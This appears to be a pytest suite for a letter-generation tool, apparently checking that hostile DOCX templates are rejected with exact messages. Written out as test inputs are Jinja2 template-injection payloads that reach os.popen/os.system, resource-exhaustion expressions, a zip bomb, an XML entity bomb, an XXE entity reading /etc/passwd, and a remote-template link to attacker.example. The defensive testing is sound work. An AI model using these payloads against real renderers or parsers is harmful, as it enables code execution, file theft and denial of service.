"""DOCX templates come from volunteers: nothing in them executes, nothing runs away.

Each case: a template, the exact error, exit 2, and an empty output folder.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from appeal_gen import sandbox

from .conftest import EXAMPLE, cli, make_template, patch_docx

CANNOT = "cannot render the template: "

# Template body -> the message after "FILE: ".
RUNAWAY = {
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}": CANNOT
    + "access to attribute '__init__' of 'type' object is unsafe.",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": CANNOT
    + "access to attribute '__class__' of 'str' object is unsafe.",
    "{{ self.__init__.__globals__ }}": CANNOT
    + "access to attribute '__init__' of 'TemplateReference' object is unsafe.",
    "{{ lipsum.__globals__['os'].system('id') }}": CANNOT
    + "access to attribute '__globals__' of 'function' object is unsafe.",
    "{{ 'x' * 10**9 }}": "the template builds a value of 1,000,000,000 items; the limit is 1,000,000",
    "{{ [0] * 100000000 }}": "the template builds a value of 100,000,000 items; the limit is 1,000,000",
    "{{ 2 ** 100000000 }}": "the template computes 2 ** 100000000, a number too large to print",
    "{{ 'x'|center(1000000000) }}": "the template passes 1,000,000,000 to a function; the limit is 1,000,000",
    "{{ 'x'|indent(1000000000) }}": "the template passes 1,000,000,000 to a function; the limit is 1,000,000",
    "{{ '{:>999999999}'.format(1) }}": "the template formats a value millions of characters wide",
    "{{ '%999999999d' % 1 }}": "the template formats a value millions of characters wide",
    "{{ '%999999999d'|format(1) }}": "the template formats a value millions of characters wide",
    "{% for i in range(10**8) %}x{% endfor %}": "the template passes 100,000,000 to a function; the limit is 1,000,000",
    "{% for i in range(200000) %}x{% endfor %}": CANNOT
    + "Range too big. The sandbox blocks ranges larger than MAX_RANGE (100000).",
    "{% set s = 'x' * 900000 %}{% for i in range(100) %}{{ s }}{% endfor %}": (
        "the template writes more than 50,000,000 characters"
    ),
    # An unclosed tag runs into the next paragraph's XML; Jinja sees the "/" of "</w:t>".
    "{{ title": CANNOT + "unexpected '/'",
}


@pytest.mark.parametrize("body", list(RUNAWAY), ids=range(len(RUNAWAY)))
def test_hostile_template_is_stopped_with_its_message(body: str, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    template = make_template(tmp_path, "Before", body, "After")
    out = tmp_path / "out"
    code, stdout, err = cli(
        capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(out)
    )
    assert (code, stdout) == (2, "")
    assert err == f"{template}: {RUNAWAY[body]}\n"
    assert not out.exists() or list(out.iterdir()) == []


def test_endless_loop_is_stopped_within_the_time_limit(tmp_path: Path, capsys, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(sandbox, "RENDER_SECONDS", 1.0)
    template = make_template(
        tmp_path, "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    )
    start = time.monotonic()
    code, _, err = cli(
        capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(tmp_path / "o")
    )
    assert time.monotonic() - start < 15
    assert code == 2
    assert err == f"{template}: the template ran for more than 1 seconds (an endless loop?)\n"


def _template_error(tmp_path: Path, capsys, template: Path) -> str:  # type: ignore[no-untyped-def]
    out = tmp_path / "out"
    code, _, err = cli(capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(out))
    assert code == 2
    assert not out.exists() or list(out.iterdir()) == []
    return str(err)


def test_zip_bomb_template_is_refused_unopened(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    base = make_template(tmp_path, "x", name="base.docx")
    bomb = tmp_path / "bomb.docx"
    patch_docx(base, bomb, {}, {"word/media/zeros.bin": b"\0" * (120 * 1024 * 1024)})
    assert bomb.stat().st_size < 2 * 1024 * 1024
    err = _template_error(tmp_path, capsys, bomb)
    assert err.startswith(f"{bomb}: the template unpacks to 12")
    assert err.endswith(" bytes; the limit is 104,857,600\n")


def test_highly_compressed_entry_is_refused(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    base = make_template(tmp_path, "x", name="base.docx")
    bomb = tmp_path / "ratio.docx"
    patch_docx(base, bomb, {}, {"word/media/zeros.bin": b"\0" * (20 * 1024 * 1024)})
    err = _template_error(tmp_path, capsys, bomb)
    assert err.startswith(f"{bomb}: word/media/zeros.bin is compressed ")
    assert err.endswith(":1 (a zip bomb?); the limit is 100:1\n")


def test_xml_entity_bomb_is_refused(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    base = make_template(tmp_path, "x", name="base.docx")
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
    )
    bad = patch_docx(base, tmp_path / "lol.docx", {"word/document.xml": laughs})
    assert _template_error(tmp_path, capsys, bad) == (
        f"{bad}: word/document.xml declares a DOCTYPE or XML entities, which Word never writes; "
        "refused (entity expansion)\n"
    )


def test_external_entity_is_refused(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    base = make_template(tmp_path, "x", name="base.docx")
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    bad = patch_docx(base, tmp_path / "xxe.docx", {"word/document.xml": xxe})
    assert "declares a DOCTYPE or XML entities" in _template_error(tmp_path, capsys, bad)


def test_remote_attached_template_is_refused(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    base = make_template(tmp_path, "x", name="base.docx")
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    bad = patch_docx(base, tmp_path / "remote.docx", {}, {"word/_rels/settings.xml.rels": rels})
    assert _template_error(tmp_path, capsys, bad) == (
        f"{bad}: word/_rels/settings.xml.rels makes Word fetch an external file (https://attacker.example/t.dotm) "
        "when the letter is opened; only hyperlinks may point outside the document\n"
    )


def test_a_file_that_is_not_a_docx(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "letter.docx"
    bad.write_text("{{ title }}", encoding="utf-8")
    assert _template_error(tmp_path, capsys, bad) == (
        f"{bad}: not a DOCX file (a DOCX is a zip archive); save the template as .docx\n"
    )


def test_a_zip_without_a_document(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    import zipfile

    bad = tmp_path / "empty.docx"
    with zipfile.ZipFile(bad, "w") as z:
        z.writestr("readme.txt", "hello")
    assert _template_error(tmp_path, capsys, bad) == f"{bad}: not a Word document: it has no word/document.xml\n"


def test_oversized_template_file(tmp_path: Path, capsys, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(sandbox, "MAX_TEMPLATE_BYTES", 1000)
    template = make_template(tmp_path, "x")
    size = template.stat().st_size
    assert _template_error(tmp_path, capsys, template) == (
        f"{template}: template: the template is {size:,} bytes; the limit is 1,000\n"
    )


def test_ordinary_numbers_and_formats_still_work(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    """The limits do not get in the way of templates that do ordinary things."""
    import io

    import docx

    template = make_template(
        tmp_path,
        "{{ 'Fax %s'|format('+855 23 880 624') }} {{ '%05d' % 42 }} {{ 2 ** 10 }} {{ '-' * 20 }}",
        "{{ reference }} {% for d in demands %}[{{ loop.index }}]{% endfor %}",
    )
    out = tmp_path / "out"
    code, _, err = cli(capsys, "build", str(EXAMPLE), "--format", "docx", "--template", str(template), "-o", str(out))
    assert (code, err) == (0, "")
    text = [p.text for p in docx.Document(io.BytesIO((out / "fld-kh-cchr-2017.en.docx").read_bytes())).paragraphs]
    assert text == [
        "Fax +855 23 880 624 00042 1024 --------------------",
        "Reference: FLD-KH-CCHR-2017 · Follow-up no. 1 [1][2][3]",
    ]
